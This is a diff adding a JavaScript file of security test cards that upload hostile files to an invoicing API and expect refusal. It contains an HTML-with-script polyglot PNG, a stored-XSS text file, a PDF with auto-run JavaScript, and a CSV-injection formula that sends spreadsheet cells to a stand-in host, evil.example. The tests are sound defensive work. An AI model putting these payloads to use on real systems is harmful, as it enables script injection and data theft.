@@ -1,0 +1,86 @@
+/** Files with hidden or active content. */
+
+import { draft } from './cards_common.js';
+
+const UPLOAD = {
+  threat: 'API8:2023 · CWE-434',
+  practice: 'Unrestricted file upload: the content of files is inspected, from the first byte to the last',
+  code: 'src/security/files/uploads/mod.rs',
+  test: 'attacks::files::uploads::corpus::hostile_files_are_refused_for_the_reason_of_their_folder',
+  expect: { status: 400, code: 'invalid_input', event: 'input_validation_fail' },
+};
+
+/** A PNG of one pixel. */
+const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const PAGE = '<!doctype html><script>alert(document.domain)</script>';
+
+function upload(run, name, type, parts) {
+  const body = new FormData();
+  body.append('file', new File(parts, name, { type }));
+  return run.send('POST', '/api/v1/documents', { token: run.ben.token, body });
+}
+
+/** Returns a PDF of one empty page with further entries in its catalog. */
+function pdf(catalog) {
+  const objects = [`<</Type/Catalog/Pages 2 0 R${catalog}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>'];
+  let text = '%PDF-1.7\n', table = 'xref\n0 4\n0000000000 65535 f \n';
+  objects.forEach((object, n) => {
+    table += `${String(text.length).padStart(10, '0')} 00000 n \n`;
+    text += `${n + 1} 0 obj\n${object}\nendobj\n`;
+  });
+  return `${text}${table}trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
+}
+
+/** @type {import('./play.js').Card[]} */
+export const CARDS = [
+  {
+    ...UPLOAD,
+    id: 'polyglot-picture',
+    title: 'Upload a picture that is also a page',
+    text: 'Polyglot file: a valid PNG is followed by HTML with a script. A browser that guesses the type would run the script.',
+    async play(run) {
+      const picture = Uint8Array.from(atob(PNG), (char) => char.charCodeAt(0));
+      await upload(run, 'picture.png', 'image/png', [picture, PAGE]);
+    },
+  },
+  {
+    ...UPLOAD,
+    id: 'page-as-text',
+    title: 'Upload a page as a text file',
+    text: 'Stored XSS: the file is named and declared as plain text, but contains HTML with a script.',
+    threat: 'API8:2023 · CWE-79 · CWE-434',
+    async play(run) {
+      await upload(run, 'note.txt', 'text/plain', [PAGE]);
+    },
+  },
+  {
+    ...UPLOAD,
+    id: 'pdf-script',
+    title: 'Upload a PDF with JavaScript',
+    text: 'Active content: the PDF runs a script when it is opened.',
+    practice: 'PDFs must not have active content; they are parsed in a child process',
+    code: 'src/security/files/uploads/pdf/mod.rs',
+    test: 'attacks::files::uploads::pdf::active::active_content_is_refused_with_its_reason_plain_and_compressed',
+    async play(run) {
+      await upload(run, 'invoice.pdf', 'application/pdf', [pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')]);
+    },
+  },
+  {
+    id: 'csv-formula',
+    title: 'Put a formula into an export',
+    text: 'CSV injection: a customer\'s name is a formula that sends cells to the attacker. In the export an apostrophe makes it plain text for a spreadsheet.',
+    threat: 'CWE-1236',
+    practice: 'CSV injection: texts in an export cannot become spreadsheet formulas',
+    code: 'src/security/files/csv_injection.rs',
+    test: 'attacks::files::csv_injection::export_cells_are_neither_formulas_nor_split',
+    expect: { status: 200 },
+    async play(run) {
+      const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")', token = run.ben.token;
+      const customer = await run.send('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' } });
+      await run.send('POST', '/api/v1/invoices', { token, body: draft(customer.body.id) });
+      const { body } = await run.send('GET', '/api/v1/invoices/export', { token });
+      const cell = `"'${name.replaceAll('"', '""')}"`;
+      return body.includes(cell) ? { held: true, text: `The export contains a text: ${cell}` } : { held: false, text: 'The export contains a formula' };
+    },
+  },
+];
